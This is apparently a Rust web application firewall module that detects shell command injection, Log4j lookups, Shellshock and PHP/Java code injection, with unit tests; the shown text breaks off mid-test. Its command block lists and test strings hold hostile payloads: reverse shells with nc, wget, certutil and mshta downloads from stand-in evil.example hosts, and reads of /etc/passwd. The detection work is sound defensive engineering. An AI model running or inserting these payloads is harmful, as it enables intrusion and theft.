//! Remote command and code injection (rules 100800–100803), in the spirit of CRS's PL1 rules
//! 932230–932260 (Unix and Windows command injection), 944150 (Log4Shell), 932170/932171
//! (Shellshock) and 933100/933140 (PHP code and stream wrappers).
//!
//! Rule 100800 looks in the injection targets (arguments and their names, cookies, `User-Agent`,
//! `Referer`, XML text and attributes), after one more percent-decoding pass and CRS's
//! `t:cmdLine` evasion folding (`\ ' " ^` removed, `${IFS}` read as a space, lower case), for a
//! shell separator or substitution (`;` `|` `&` `` ` `` `$(` a line break) followed by a known
//! command. What must follow the command depends on how rarely its name is an everyday word:
//! `whoami`, `uname` or `wget` need only to end there; words such as `cat`, `id` or `ping` need a
//! shell-looking argument (`-la`, `/etc/passwd`, `~/`, `$HOME`, a redirection) or, after a pipe,
//! `&&`, a backquote or `$(`, the end of the value; interpreters (`python`, `perl`, `php`) need an
//! option. So `Tom & Jerry`, `Java; PHP; Python` or `Contact | ID` pass.
//!
//! Rule 100800 also fires on a shell started at the very start of a value with the switch that
//! runs a command (`cmd /c`, `powershell -nop`, `/bin/sh -c`), and on the shell's field separator
//! variable (`${IFS}`), which payloads use where spaces are filtered.
//!
//! Rule 100801 looks for a Log4j lookup (`${jndi:`, `${env:`, `${lower:` and the other lookup
//! names, or a lookup nested in one within a few bytes, the way obfuscated payloads hide `jndi`)
//! in every header value, the path and the injection targets; the path is also searched for a
//! command after a separator, `${IFS}`, and code inside a `${…}` expression. Rule 100802 looks
//! for a Shellshock function definition (`() {`) at the start of a header value or an argument.
//! Rule 100803 looks for PHP code (`<?php`, `<?=`) and calls of dangerous PHP functions
//! (`system('id')`), PHP and other stream wrappers (`php://filter`, `expect://`, `phar://`),
//! Java runtime calls (`java.lang.Runtime`) and PowerShell download cradles in the injection
//! targets.

use std::borrow::Cow;

use aho_corasick::AhoCorasick;

use super::classes::ByteClasses;
use super::memo::{self, Classifier};
use super::targets::Classified;
use super::targets::{injection_targets, is_inspected_header, push_once, Target};
use super::transform::{apply, url_decode_uni};
use super::{strip_prefix_ci, Deadline, Detector, Finding, OutOfTime, Severity};
use crate::decode::percent_decode;
use crate::parse::Source;
use crate::request::Request;

/// Rule id: a shell separator followed by a known Unix or Windows command.
pub const COMMAND_INJECTION: u32 = 100800;
/// Rule id: a Log4j JNDI lookup (Log4Shell, CVE-2021-44228).
pub const LOG4J_LOOKUP: u32 = 100801;
/// Rule id: a Shellshock function definition (CVE-2014-6271).
pub const SHELLSHOCK: u32 = 100802;
/// Rule id: PHP code or a call of a dangerous PHP function, a code-running stream wrapper, a
/// Java runtime call, or a PowerShell download-and-run cradle.
pub const CODE_INJECTION: u32 = 100803;

const MSG_COMMAND: &str = "Remote command execution: shell command injection";
const MSG_LOG4J: &str = "Remote command execution: Log4j JNDI lookup (Log4Shell)";
const MSG_SHELLSHOCK: &str = "Remote command execution: Shellshock function definition";
const MSG_CODE: &str =
    "Code injection: PHP code or function call, stream wrapper, Java runtime call or PowerShell";

/// How much of a shell-looking context a command name needs to count.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Strength {
    /// Rarely an everyday word (`whoami`, `wget`): its name ending there is enough.
    Strong,
    /// Also an everyday word (`cat`, `id`, `type`): needs a shell-looking argument, or the end
    /// of the value after a pipe, `&&`, `||`, a backquote or `$(`.
    Weak,
    /// Like [`Strength::Weak`], and also takes a number (`sleep 5`, `ping 10.0.0.1`).
    Numeric,
    /// A script interpreter (`python`, `perl`): needs an option (`-c`, `-e`), or the end of the
    /// value after a backquote or `$(`.
    Interpreter,
}

/// Commands attackers run first (reconnaissance, download, reverse shells), lower case.
const COMMANDS: &[(&str, Strength)] = &[
    ("base64", Strength::Weak),
    ("bash", Strength::Strong),
    ("bitsadmin", Strength::Strong),
    ("busybox", Strength::Strong),
    ("cat", Strength::Weak),
    ("certutil", Strength::Strong),
    ("chmod", Strength::Strong),
    ("chown", Strength::Strong),
    ("cmd", Strength::Weak),
    ("cmd.exe", Strength::Strong),
    ("crontab", Strength::Strong),
    ("cscript", Strength::Strong),
    ("curl", Strength::Strong),
    ("dash", Strength::Weak),
    ("dir", Strength::Weak),
    ("echo", Strength::Weak),
    ("env", Strength::Weak),
    ("find", Strength::Weak),
    ("head", Strength::Weak),
    ("hostname", Strength::Weak),
    ("id", Strength::Weak),
    ("iex", Strength::Strong),
    ("ifconfig", Strength::Strong),
    ("ipconfig", Strength::Strong),
    ("irm", Strength::Strong),
    ("iwr", Strength::Strong),
    ("kill", Strength::Numeric),
    ("ksh", Strength::Strong),
    ("less", Strength::Weak),
    ("ls", Strength::Weak),
    ("lua", Strength::Interpreter),
    ("more", Strength::Weak),
    ("mshta", Strength::Strong),
    ("msiexec", Strength::Strong),
    ("nc", Strength::Numeric),
    ("ncat", Strength::Strong),
    ("net", Strength::Weak),
    ("netcat", Strength::Strong),
    ("netstat", Strength::Strong),
    ("nltest", Strength::Strong),
    ("nmap", Strength::Strong),
    ("node", Strength::Interpreter),
    ("nslookup", Strength::Strong),
    ("passwd", Strength::Weak),
    ("perl", Strength::Interpreter),
    ("php", Strength::Interpreter),
    ("ping", Strength::Numeric),
    ("powershell", Strength::Strong),
    ("powershell.exe", Strength::Strong),
    ("ps", Strength::Weak),
    ("pwd", Strength::Weak),
    ("pwsh", Strength::Strong),
    ("python", Strength::Interpreter),
    ("python2", Strength::Interpreter),
    ("python3", Strength::Interpreter),
    ("reg", Strength::Weak),
    ("regsvr32", Strength::Strong),
    ("rm", Strength::Weak),
    ("ruby", Strength::Interpreter),
    ("rundll32", Strength::Strong),
    ("schtasks", Strength::Strong),
    ("sh", Strength::Weak),
    ("sleep", Strength::Numeric),
    ("socat", Strength::Strong),
    ("systeminfo", Strength::Strong),
    ("tail", Strength::Weak),
    ("tasklist", Strength::Strong),
    ("telnet", Strength::Strong),
    ("tftp", Strength::Strong),
    ("touch", Strength::Weak),
    ("type", Strength::Weak),
    ("uname", Strength::Strong),
    ("useradd", Strength::Strong),
    ("vssadmin", Strength::Strong),
    ("wget", Strength::Strong),
    ("whoami", Strength::Strong),
    ("wmic", Strength::Strong),
    ("wscript", Strength::Strong),
    ("xterm", Strength::Strong),
    ("zsh", Strength::Strong),
];

/// Literals of rule 100803, matched case-insensitively.
const CODE_LITERALS: &[&str] = &[
    "<?php",
    "<?=",
    "php://filter",
    "php://input",
    "php://stdin",
    "php://memory",
    "php://temp",
    "php://fd",
    "expect://",
    "phar://",
    "zip://",
    "compress.zlib://",
    // ThinkCMF's template tag (`<php>die(@md5(…))</php>`).
    "<php>",
    // A base64 `data:` URI whose content starts with `<?` (PHP code, `PD9waHA` for `<?php`).
    "base64,pd9",
    "java.lang.runtime",
    "java.lang.processbuilder",
    "getruntime().exec(",
    "invoke-webrequest",
    "invoke-expression",
    "invoke-restmethod",
    "net.webclient",
    "downloadstring(",
    "downloadfile(",
    "frombase64string(",
    // Struts 2 OGNL (CVE-2017-5638 in `Content-Type`, S2-045/S2-057 in arguments).
    "%{(#",
    "${(#",
    "#_memberaccess",
    "ognlcontext",
    "#context[",
    "xwork.methodaccessor",
];

/// How a command position was reached.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Separator {
    /// `;`, a single `&` or a line break: also everyday punctuation.
    Loose,
    /// A brace expansion's `{` (`{cat,/etc/passwd}`): the command must be followed by `,`.
    Brace,
    /// A pipe, `&&` or `||`: rarely between everyday words.
    Pipe,
    /// A backquote or `$(`: command substitution.
    Substitution,
}

/// The command and code injection detector.
pub struct CommandInjection {
    code: AhoCorasick,
}

impl CommandInjection {
    /// Builds the detector and its literal automaton.
    pub fn new() -> CommandInjection {
        let code = AhoCorasick::builder()
            .ascii_case_insensitive(true)
            .build(CODE_LITERALS)
            .expect("code literals are a small literal set");
        CommandInjection { code }
    }

    /// Checks one injection target's value, pushing what it finds. Its byte classes decide
    /// whether any check but the start-of-value invocation can find anything; most values
    /// (words, numbers, prices) need none. The others' answers are kept in the per-thread memo:
    /// `User-Agent`, `Referer` and cookies repeat from request to request.
    /// `out[from..]` are this request's findings: a variable is reported once per rule.
    fn inspect_value(&self, target: &Target<'_>, from: usize, out: &mut Vec<Finding>) {
        let value = target.value;
        let hits = if target.classes.any(ByteClasses::COMMAND) {
            memo::classify(Classifier::Command, value, |v| self.hits(v))
        } else {
            invocation_at_start(value).map(command_hit)
        };
        let Some(hits) = hits else {
            return;
        };
        let variable = || target.variable();
        let decoded = decoded(value);
        for (bit, id, msg) in [
            (COMMAND_HIT, COMMAND_INJECTION, MSG_COMMAND),
            (LOG4J_HIT, LOG4J_LOOKUP, MSG_LOG4J),
            (SHELLSHOCK_HIT, SHELLSHOCK, MSG_SHELLSHOCK),
            (CODE_HIT, CODE_INJECTION, MSG_CODE),
        ] {
            if hits[0] & bit == 0 {
                continue;
            }
            let what = if bit == COMMAND_HIT {
                command_label(usize::from(hits[1]))
            } else {
                String::new()
            };
            push_once(out, from, finding(id, msg, variable(), &what, &decoded));
        }
    }

    /// Reports, in the (decoded) path, a Log4j lookup, a shell command after a separator or
    /// the shell's `${IFS}` (router exploits: `/cgi-bin/;cd${IFS}/tmp;wget${IFS}…`), and code
    /// inside an expression (`${@java.lang.Runtime@getRuntime().exec("id")}`, Confluence's
    /// CVE-2022-26134): a literal alone may be a documentation page's name.
    fn inspect_path(&self, path: &[u8], out: &mut Vec<Finding>) {
        let variable = || "REQUEST_FILENAME".to_string();
        if has_log4j_lookup(path) {
            out.push(finding(LOG4J_LOOKUP, MSG_LOG4J, variable(), "", path));
        }
        let command = command_after_separator(path, classes(path))
            .or_else(|| has_ifs(path).then_some(NO_COMMAND));
        if let Some(index) = command {
            out.push(finding(
                COMMAND_INJECTION,
                MSG_COMMAND,
                variable(),
                &command_label(index),
                path,
            ));
        }
        let in_expression = memchr::memmem::find(path, b"${").is_some()
            || memchr::memmem::find(path, b"%{").is_some();
        if in_expression && self.code.is_match(path) {
            out.push(finding(CODE_INJECTION, MSG_CODE, variable(), "", path));
        }
    }

    /// What the checks find in `value`: `[rule bits, index of the command in COMMANDS, 0…]`,
    /// or `None` when nothing.
    fn hits(&self, value: &[u8]) -> Option<[u8; 8]> {
        let decoded = decoded(value);
        let seen = classes(&decoded);
        let mut hits = [0u8; 8];
        let command = command_after_separator(&decoded, seen)
            .or_else(|| invocation_at_start(&decoded))
            .or_else(|| has_ifs(&decoded).then_some(NO_COMMAND));
        if let Some(index) = command {
            hits = command_hit(index);
        }
        if seen & DOLLAR != 0 && has_log4j_lookup(&decoded) {
            hits[0] |= LOG4J_HIT;
        }
        if seen & CODE != 0 && is_shellshock(&decoded) {
            hits[0] |= SHELLSHOCK_HIT;
        }
        if seen & CODE != 0 && (self.code.is_match(&*decoded) || has_php_call(&decoded)) {
            hits[0] |= CODE_HIT;
        }
        (hits[0] != 0).then_some(hits)
    }
}

/// The index in [`COMMANDS`] of a command after a shell separator in `decoded` (whose
/// [`classes`] are `seen`), searched after `t:cmdLine` folding only when it holds a separator.
fn command_after_separator(decoded: &[u8], seen: u8) -> Option<usize> {
    (seen & SEPARATOR != 0)
        .then(|| find_command(&fold_command_line(decoded)))
        .flatten()
}

/// The `name: ` a finding's excerpt starts with for the command at `index` of [`COMMANDS`];
/// empty for [`NO_COMMAND`].
fn command_label(index: usize) -> String {
    COMMANDS
        .get(index)
        .map_or(String::new(), |(name, _)| format!("{name}: "))
}

/// The command "index" of a command injection without a command name ([`has_ifs`]).
const NO_COMMAND: usize = u8::MAX as usize;

/// True when `value` holds the shell's field separator variable (`${IFS}`, `$IFS` not followed
/// by a name byte), which payloads write for a space where spaces are filtered.
fn has_ifs(value: &[u8]) -> bool {
    memchr::memchr_iter(b'$', value).any(|at| {
        let rest = &value[at + 1..];
        strip_prefix_ci(rest, b"{ifs}").is_some()
            || strip_prefix_ci(rest, b"ifs").is_some_and(|after| {
                !after
                    .first()
                    .is_some_and(|&b| b.is_ascii_alphanumeric() || b == b'_')
            })
    })
}

/// The hits of a command found at `index` of [`COMMANDS`] ([`NO_COMMAND`]: none named).
fn command_hit(index: usize) -> [u8; 8] {
    let mut hits = [0u8; 8];
    hits[0] = COMMAND_HIT;
    hits[1] = u8::try_from(index).unwrap_or(u8::MAX);
    hits
}

/// What a command started at the very start of a value needs after its name to run a command
/// or a shell.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Switch {
    /// `/c` or `/k` (`cmd /c whoami`).
    Slash,
    /// Any option (`powershell -nop …`).
    Dash,
    /// `-c` or `-i` (`bash -c 'id'`, `sh -i`).
    Shell,
}

/// Shells and their switches, for [`invocation_at_start`].
const INVOCATIONS: &[(&str, Switch)] = &[
    ("cmd", Switch::Slash),
    ("cmd.exe", Switch::Slash),
    ("powershell", Switch::Dash),
    ("powershell.exe", Switch::Dash),
    ("pwsh", Switch::Dash),
    ("bash", Switch::Shell),
    ("dash", Switch::Shell),
    ("ksh", Switch::Shell),
    ("sh", Switch::Shell),
    ("zsh", Switch::Shell),
];

/// The index in [`COMMANDS`] of a shell started at the very start of `value` with the switch
/// that makes it run a command (`cmd /c`, `cmd.exe /k`, `powershell -…`, `bash -c`, `sh -i`),
/// also behind a directory (`/bin/sh -c`). Without a separator before it a shell's name is just
/// a word; followed by such a switch, it is a command line.
fn invocation_at_start(value: &[u8]) -> Option<usize> {
    let s = value.trim_ascii_start();
    let s = &s[after_directory(s, 0)?..];
    let word_len = s
        .iter()
        .take_while(|&&b| b.is_ascii_alphanumeric() || b == b'.')
        .count();
    let (name, switch) = INVOCATIONS
        .iter()
        .find(|(name, _)| name.as_bytes().eq_ignore_ascii_case(&s[..word_len]))?;
    let rest = &s[word_len..];
    let blanks = skip_blanks(rest, 0);
    let arg = &rest[blanks..];
    let exactly = |switch: &[u8]| {
        strip_prefix_ci(arg, switch)
            .is_some_and(|after| after.first().map_or(true, u8::is_ascii_whitespace))
    };
    let runs = blanks > 0
        && match switch {
            Switch::Slash => exactly(b"/c") || exactly(b"/k"),
            Switch::Dash => {
                arg.first() == Some(&b'-') && arg.get(1).is_some_and(u8::is_ascii_alphabetic)
            }
            Switch::Shell => exactly(b"-c") || exactly(b"-i"),
        };
    runs.then(|| COMMANDS.iter().position(|(c, _)| c == name))
        .flatten()
}

/// PHP functions that run commands or code, or read, write or decode what an attacker sends,
/// lower case (CRS 933150's high-risk names).
const PHP_FUNCTIONS: &[&str] = &[
    "assert",
    "base64_decode",
    "call_user_func",
    "call_user_func_array",
    "create_function",
    "eval",
    "exec",
    "file_get_contents",
    "file_put_contents",
    "fsockopen",
    "gzinflate",
    "move_uploaded_file",
    "passthru",
    "pcntl_exec",
    "phpinfo",
    "popen",
    "proc_open",
    "shell_exec",
    "str_rot13",
    "system",
    "unserialize",
];

/// True when `value` calls one of [`PHP_FUNCTIONS`] the way injected PHP does: the name as a
/// whole word, `(` after it (blanks allowed), then a quoted string or a variable (`system('id')`,
/// `passthru($_GET['c'])`), or nothing at all for `phpinfo()`. Prose such as "the solar
/// system (planets)" or "operating system(s)" passes.
fn has_php_call(value: &[u8]) -> bool {
    memchr::memchr_iter(b'(', value).any(|open| {
        let name = super::trailing_identifier(value[..open].trim_ascii_end());
        if name.is_empty()
            || !PHP_FUNCTIONS
                .iter()
                .any(|f| f.as_bytes().eq_ignore_ascii_case(name))
        {
            return false;
        }
        let arg = value[open + 1..].trim_ascii_start();
        match arg.first() {
            Some(b'\'' | b'"' | b'$' | b'`') => true,
            Some(b')') => name.eq_ignore_ascii_case(b"phpinfo"),
            _ => false,
        }
    })
}

/// `value` after one more percent-decoding pass (`%uXXXX` included), when it has a `%`.
fn decoded(value: &[u8]) -> Cow<'_, [u8]> {
    if memchr::memchr(b'%', value).is_some() {
        apply(Cow::Borrowed(value), url_decode_uni)
    } else {
        Cow::Borrowed(value)
    }
}

/// Bit of [`CommandInjection::hits`]: rule 100800.
const COMMAND_HIT: u8 = 1;
/// Bit of [`CommandInjection::hits`]: rule 100801.
const LOG4J_HIT: u8 = 2;
/// Bit of [`CommandInjection::hits`]: rule 100802.
const SHELLSHOCK_HIT: u8 = 4;
/// Bit of [`CommandInjection::hits`]: rule 100803.
const CODE_HIT: u8 = 8;

impl Default for CommandInjection {
    fn default() -> Self {
        CommandInjection::new()
    }
}

impl Detector for CommandInjection {
    fn inspect(
        &self,
        req: &Request<'_>,
        inputs: &Classified<'_, '_>,
        deadline: &Deadline,
        out: &mut Vec<Finding>,
    ) -> Result<(), OutOfTime> {
        let from = out.len();
        for target in injection_targets(inputs) {
            deadline.check()?;
            self.inspect_value(&target, from, out);
        }
        // Log4Shell and Shellshock payloads ride in any header (`X-Api-Version`, `Cookie` …),
        // Struts' OGNL in `Content-Type`, PHP for log poisoning in any logged header.
        for (field, classes) in inputs.fields.iter().zip(inputs.classes()) {
            if field.source != Source::Header {
                continue;
            }
            deadline.check()?;
            let variable = || field.variable();
            if classes.value.any(ByteClasses::COMMAND)
                && !field.name.eq_ignore_ascii_case(b"cookie")
                && !is_inspected_header(&field.name)
                && self.code.is_match(&*field.value)
            {
                push_once(
                    out,
                    from,
                    finding(CODE_INJECTION, MSG_CODE, variable(), "", &field.value),
                );
            }
            if has_log4j_lookup(&field.value) {
                push_once(
                    out,
                    from,
                    finding(LOG4J_LOOKUP, MSG_LOG4J, variable(), "", &field.value),
                );
            }
            if is_shellshock(&field.value) {
                push_once(
                    out,
                    from,
                    finding(SHELLSHOCK, MSG_SHELLSHOCK, variable(), "", &field.value),
                );
            }
        }
        deadline.check()?;
        self.inspect_path(&percent_decode(req.path(), false), out);
        Ok(())
    }
}

fn finding(rule_id: u32, msg: &'static str, variable: String, what: &str, value: &[u8]) -> Finding {
    let mut f = Finding::new(rule_id, msg, Severity::Critical, variable, value);
    if !what.is_empty() {
        f.data.insert_str(0, what);
    }
    f
}

/// Byte class: a shell separator or substitution byte (`; | & ` $ {` and line breaks).
const SEPARATOR: u8 = 1;
/// Byte class: `$`, which every Log4j lookup starts with.
const DOLLAR: u8 = 2;
/// Byte class: `<`, `:`, `(` or `.`, one of which every code literal and Shellshock holds.
const CODE: u8 = 4;
/// Byte class: `%`, the start of an encoding.
const PERCENT: u8 = 8;

/// The classes of every byte.
const CLASS_OF: [u8; 256] = {
    let mut t = [0u8; 256];
    let separators = b";|&`{\n\r";
    let mut i = 0;
    while i < separators.len() {
        t[separators[i] as usize] = SEPARATOR;
        i += 1;
    }
    t[b'$' as usize] = SEPARATOR | DOLLAR;
    t[b'<' as usize] = CODE;
    t[b':' as usize] = CODE;
    t[b'(' as usize] = CODE;
    t[b'.' as usize] = CODE;
    t[b'%' as usize] = PERCENT;
    t
};

/// The classes of the bytes `value` holds, OR-ed.
fn classes(value: &[u8]) -> u8 {
    value.iter().fold(0, |seen, &b| seen | CLASS_OF[b as usize])
}

/// CRS's `t:cmdLine`, as far as the command search needs it: `\ ' " ^` removed (`w'h'o'am'i`,
/// `c\at`), `${IFS}` and `$IFS` read as a space, `$@` and `$*` removed, ASCII lower case.
fn fold_command_line(value: &[u8]) -> Vec<u8> {
    let mut out = Vec::with_capacity(value.len());
    let mut i = 0;
    while i < value.len() {
        let b = value[i];
        let rest = &value[i..];
        if b == b'$' {
            if strip_prefix_ci(rest, b"${ifs}").is_some() {
                out.push(b' ');
                i += 6;
                continue;
            }
            if strip_prefix_ci(rest, b"$ifs").is_some() {
                out.push(b' ');
                i += 4;
                continue;
            }
            if matches!(rest.get(1), Some(b'@' | b'*')) {
                i += 2;
                continue;
            }
        }
        if !matches!(b, b'\\' | b'\'' | b'"' | b'^') {
            out.push(b.to_ascii_lowercase());
        }
        i += 1;
    }
    out
}

/// The index in [`COMMANDS`] of the first known command found at a command position of
/// `folded` (see the module documentation), with what must follow it.
fn find_command(folded: &[u8]) -> Option<usize> {
    // `name|id|email` is a list of fields, not a pipeline: a pipe between plain words does not
    // make a weak command's end count.
    let word_list = memchr::memchr(b'|', folded).is_some() && is_word_list(folded);
    let mut i = 0;
    while i < folded.len() {
        let (separator, after) = match (folded[i], folded.get(i + 1)) {
            (b'|', Some(b'|')) | (b'&', Some(b'&')) => (Separator::Pipe, i + 2),
            (b'|', _) => (Separator::Pipe, i + 1),
            (b'`', _) => (Separator::Substitution, i + 1),
            (b'$', Some(b'(')) => (Separator::Substitution, i + 2),
            (b'{', _) => (Separator::Brace, i + 1),
            (b';' | b'&' | b'\n' | b'\r', _) => (Separator::Loose, i + 1),
            _ => {
                i += 1;
                continue;
            }
        };
        let separator = match separator {
            Separator::Pipe if word_list => Separator::Loose,
            // No word before it (`;id`, `127.0.0.1;id`, `*";id;"` folded to `*;id;`): the value
            // was cut for a command, not written as prose.
            Separator::Loose if has_no_word(&folded[..i]) => Separator::Pipe,
            other => other,
        };
        if let Some(cmd) = command_at(folded, after, separator) {
            return Some(cmd);
        }
        i = after;
    }
    None
}

/// The command starting at `at` (after blanks, an opening `(` or `{`, and a directory such as
/// `/bin/`), when what follows it fits its [`Strength`].
fn command_at(s: &[u8], at: usize, separator: Separator) -> Option<usize> {
    let i = after_directory(s, skip(s, at, |b| matches!(b, b' ' | b'\t' | b'(' | b'{')))?;
    let word_len = s[i..]
        .iter()
        .take_while(|&&b| b.is_ascii_alphanumeric() || matches!(b, b'.' | b'_' | b'-'))
        .count();
    let word = &s[i..i + word_len];
    let index = COMMANDS.iter().position(|(c, _)| c.as_bytes() == word)?;
    let strength = COMMANDS[index].1;
    let tail = &s[i + word_len..];
    if separator == Separator::Brace {
        return (tail.first() == Some(&b',')).then_some(index);
    }
    let ends = ends_command(tail);
    let weak = || shell_argument(tail) || (ends && separator != Separator::Loose);
    let ok = match strength {
        Strength::Strong => ends || skip_blanks(tail, 0) > 0,
        Strength::Weak => weak(),
        Strength::Numeric => weak() || numeric_argument(tail),
        Strength::Interpreter => {
            option_argument(tail) || (ends && separator == Separator::Substitution)
        }
    };
    ok.then_some(index)
}

/// Where a command's name starts at `at`: after a directory before it (`/bin/sh`,
/// `/usr/bin/id`), if there is one.
fn after_directory(s: &[u8], at: usize) -> Option<usize> {
    if s.get(at) != Some(&b'/') {
        return Some(at);
    }
    let dir_end = s[at..]
        .iter()
        .take_while(|&&b| b == b'/' || b.is_ascii_alphanumeric() || b == b'.')
        .count();
    Some(s[at..at + dir_end].iter().rposition(|&b| b == b'/')? + at + 1)
}

/// The first index from `at` whose byte `skip_byte` rejects.
fn skip(s: &[u8], at: usize, skip_byte: impl Fn(u8) -> bool) -> usize {
    at + s
        .get(at..)
        .map_or(0, |rest| rest.iter().take_while(|&&b| skip_byte(b)).count())
}

/// The first index from `at` that is not a blank (space or tab).
fn skip_blanks(s: &[u8], at: usize) -> usize {
    skip(s, at, |b| b == b' ' || b == b'\t')
}

/// True when a command ends here: the end of the value or a shell operator, after blanks.
fn ends_command(tail: &[u8]) -> bool {
    let i = skip_blanks(tail, 0);
    matches!(
        tail.get(i),
        None | Some(b';' | b'|' | b'&' | b'`' | b')' | b'}' | b'<' | b'>' | b'\n' | b'\r' | b',')
    )
}

/// True when blanks and then a shell-looking argument follow: an option (`-la`), a path (`/etc`,
/// `~/`, `./`, `../`, `c:\`), a variable (`$HOME`) or a redirection.
fn shell_argument(tail: &[u8]) -> bool {
    let i = skip_blanks(tail, 0);
    if i == 0 {
        return matches!(tail.first(), Some(b'<' | b'>'));
    }
    let arg = &tail[i..];
    match arg.first() {
        Some(b'-') => arg.get(1).is_some_and(|b| b.is_ascii_alphanumeric()),
        Some(b'/' | b'~' | b'$' | b'<' | b'>') => true,
        Some(b'.') => arg.starts_with(b"./") || arg.starts_with(b"../"),
        // A drive (`c:\windows`, read `c:windows` once `\` is removed).
        Some(b) if b.is_ascii_alphabetic() => {
            arg.get(1) == Some(&b':')
                && arg
                    .get(2)
                    .is_some_and(|&b| b == b'/' || b.is_ascii_alphanumeric())
        }
        _ => false,
    }
}

/// True when blanks and then a number follow: an address with dots (`10.0.0.1`, then anything),
/// or digits that end the command (`sleep 5`, not `sleep 8 hours`).
fn numeric_argument(tail: &[u8]) -> bool {
    let i = skip_blanks(tail, 0);
    let len = tail[i..]
        .iter()
        .take_while(|&&b| b.is_ascii_digit() || b == b'.')
        .count();
    if i == 0 || len == 0 || !tail[i].is_ascii_digit() {
        return false;
    }
    tail[i..i + len].contains(&b'.') || ends_command(&tail[i + len..])
}

/// True when `s` holds no letter: blanks, digits and punctuation only (a number, an IP address,
/// the quote that closes the string a command was written into).
fn has_no_word(s: &[u8]) -> bool {
    s.iter().all(|&b| b.is_ascii() && !b.is_ascii_alphabetic())
}

/// True when `value` is plain words joined by pipes (`name|id|email`, `rock | pop`), a word
/// first.
fn is_word_list(value: &[u8]) -> bool {
    value.first().is_some_and(|b| b.is_ascii_alphanumeric())
        && value
            .iter()
            .all(|&b| b.is_ascii_alphanumeric() || matches!(b, b'|' | b' ' | b'_' | b'-'))
}

/// True when blanks and then an option (`-c`, `-e`, `-r`) follow.
fn option_argument(tail: &[u8]) -> bool {
    let i = skip_blanks(tail, 0);
    i > 0 && tail.get(i) == Some(&b'-') && tail.get(i + 1).is_some_and(|b| b.is_ascii_alphabetic())
}

/// Log4j lookup names with their colon: what follows `${` in a lookup. Besides `jndi:` (the
/// exploit), payloads use the others to hide `jndi` (`${lower:j}`) or to leak secrets through it
/// (`${env:AWS_SECRET_ACCESS_KEY}`).
const LOG4J_LOOKUPS: &[&str] = &[
    "jndi:", "ctx:", "env:", "sys:", "java:", "base64:", "lower:", "upper:", "main:", "bundle:",
    "docker:", "k8s:", "spring:", "log4j:", "web:", "marker:", "sd:", "event:",
];

/// True when `value` holds a Log4j lookup: `${` followed by a [`LOG4J_LOOKUPS`] name (any case), or by
/// another `${` within 15 bytes without a `}` (a nested lookup hiding the name, as in
/// `${${lower:j}ndi:…}`), like CRS 944150.
fn has_log4j_lookup(value: &[u8]) -> bool {
    let mut i = 0;
    while let Some(found) = value.get(i..).and_then(|rest| memchr::memchr(b'$', rest)) {
        if value.get(i + found + 1) != Some(&b'{') {
            i += found + 1;
            continue;
        }
        let after = &value[i + found + 2..];
        if LOG4J_LOOKUPS
            .iter()
            .any(|name| strip_prefix_ci(after, name.as_bytes()).is_some())
        {
            return true;
        }
        let window = &after[..after.len().min(15)];
        let until_close = window
            .iter()
            .position(|&b| b == b'}')
            .unwrap_or(window.len());
        if window[..until_close].windows(2).any(|w| w == b"${") {
            return true;
        }
        i += found + 2;
    }
    false
}

/// True when `value` starts (after blanks) with a function definition `() {`, like CRS
/// 932170/932171.
fn is_shellshock(value: &[u8]) -> bool {
    let i = skip_blanks(value, 0);
    let Some(rest) = value.get(i..).and_then(|r| r.strip_prefix(b"(")) else {
        return false;
    };
    let j = skip_blanks(rest, 0);
    let Some(rest) = rest.get(j..).and_then(|r| r.strip_prefix(b")")) else {
        return false;
    };
    let k = skip_blanks(rest, 0);
    k > 0 && rest.get(k) == Some(&b'{')
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::detect::testing::{benign_headers, benign_values, inspect_get, inspect_query_value};

    fn rules(found: &[Finding]) -> Vec<u32> {
        found.iter().map(|f| f.rule_id).collect()
    }

    fn fires(value: &str) -> Vec<u32> {
        rules(&inspect_query_value(
            &CommandInjection::new(),
            value.as_bytes(),
        ))
    }

    #[test]
    fn shell_command_injections_fire() {
        for v in [
            ";cat /etc/passwd",
            "|id",
            "$(whoami)",
            "`id`",
            ";ls -la",
            "127.0.0.1;uname -a",
            "127.0.0.1 && whoami",
            "; nc -e /bin/sh 10.0.0.1 4444",
            "x|wget http://evil.example/x.sh",
            "a%0acat%20/etc/passwd",
            "1;w'h'o'a'm'i",
            "1;c\\at /etc/passwd",
            ";cat${IFS}/etc/passwd",
            "{cat,/etc/passwd}",
            "| /bin/bash -i",
            "$(/usr/bin/id)",
            "& ping -n 3 127.0.0.1",
            "|| curl evil.example",
            "& type C:\\windows\\win.ini",
            "| powershell -enc SQBFAFgA",
            "; python -c 'import os'",
            "`perl -e 'print 1'`",
            "a;sleep 5;",
            "x; echo $PATH",
            "; ping 8.8.8.8",
            "| nc 10.0.0.1 4444",
            "8.8.8.8|id",
            "; kill -9 1",
            ";mshta http://evil.example/x.hta",
            ";echo${IFS}vulnerable",
            ";id",
            "127.0.0.1;id",
            "*\";id;\"",
            "'; uname -a #",
            "& ls",
            "x;cat$IFS/etc/passwd",
            "| certutil -urlcache -split -f http://evil.example/x.exe",
            "& rundll32 shell32.dll,Control_RunDLL",
            ";iwr http://example.com/path/file.ps1",
            "cmd.exe /c whoami",
            "cmd /k dir",
            "powershell -nop -w hidden -enc SQBFAFgA",
            "  /bin/sh -c id",
            "bash -i",
        ] {
            assert_eq!(fires(v), [COMMAND_INJECTION], "missed {v:?}");
        }
    }

    #[test]
    fn everyday_text_with_separators_passes() {
        for v in [
            "Tom & Jerry",
            "dog & cat",
            "salt & pepper; id",
            "Skills: Java; PHP; Python; Perl",
            "Contact Us | ACME",
            "rock | pop | jazz",
            "R&D; sleep study",
            "AT&T",
            "Black & White | type A",
            "Echo Dot & Kindle",
            "ls",
            "whoami",
            "price $(USD) 20",
            "ping pong; ping",
            "cats & dogs; cat lovers welcome",
            "Q&A: how do I find my id?",
            "2 > 1 && 3 > 2",
            "line one\nid card\nsh",
            "node; python",
            "net income; net loss",
            "template ${name} and ${count}",
            "price: $ifsc; code $IFSC",
            "Name: John; id",
            "10:30; id card renewal",
            "(555) 123-4567; cat food",
            "\"Hello\"; cat videos",
            "a.b; cat",
            "name|id|email",
            "email|id",
            "Name: John; ID 12345",
            "Relax; sleep 8 hours a night",
            "Charlotte; NC",
            "cmd key on a Mac",
            "powershell tutorial for beginners",
            "bash scripting course",
            "sh",
            "/bin/sh",
            "dash cam - front and rear",
            "more & less - a story",
            "https://shop.example.com/p?id=5&type=/home&cat=2",
            "{\"a\": {\"cat\": 1}}",
